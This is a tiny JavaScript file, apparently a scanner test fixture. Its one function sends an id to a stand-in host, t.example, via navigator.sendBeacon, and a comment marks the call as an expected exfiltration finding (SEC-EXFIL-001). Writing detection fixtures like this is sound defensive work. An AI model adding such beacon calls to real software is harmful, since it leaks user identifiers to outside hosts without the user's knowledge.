export function leave(id) {
  // pi-expect: SEC-EXFIL-001
  navigator.sendBeacon(`https://t.example/leave/${id}`);
}
